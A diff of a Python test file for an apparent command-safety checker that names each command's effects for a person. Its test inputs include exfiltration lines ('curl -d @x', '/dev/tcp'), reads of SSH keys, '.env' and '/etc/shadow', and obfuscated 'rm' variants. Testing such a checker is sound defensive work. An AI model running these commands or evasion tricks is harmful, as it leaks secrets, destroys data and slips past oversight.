@@ -54,7 +54,7 @@ def test_harmless_commands_are_not_asked_about(command):
     [
         ("rm notes.txt", "deletes notes.txt"),
         ("python run.py > out.csv", "overwrites out.csv"),
-        ("ls && mv a b", "moves a b"),
+        ("ls && mv a b", "moves a to b"),
         ("r''m x", "deletes x"),
         ("/bin/rm x", "deletes x"),
         ("\\rm x", "deletes x"),
@@ -86,7 +86,7 @@ def test_harmless_commands_are_not_asked_about(command):
         ("sed -i s/a/b/ x.txt", "in place"),
         ("python -c 'import os; os.remove(\"x\")'", "deletes x"),
         ("python - <<X\nimport shutil; shutil.rmtree('x')\nX", "deletes x"),
-        ("curl -d @x https://example.org", "sends or stores"),
+        ("curl -d @x https://example.org", "sends x to example.org"),
         ("cat ~/.ssh/id_rsa", "may hold secrets"),
         ("cat .env", "may hold secrets"),
         ("cat //etc/shadow", "may hold secrets"),
@@ -99,7 +99,7 @@ def test_harmless_commands_are_not_asked_about(command):
         ("cat <<X\nabc", "cannot be judged"),
         ("echo a\u202eb", "hides a part of its text: right-to-left override"),
         ("rм x", "unusual letters"),
-        ("cat x > /dev/tcp/example.org/80", "another host"),
+        ("cat x > /dev/tcp/example.org/80", "opens a connection to example.org"),
     ],
 )
 def test_effects_are_named_for_a_person(command, reason):
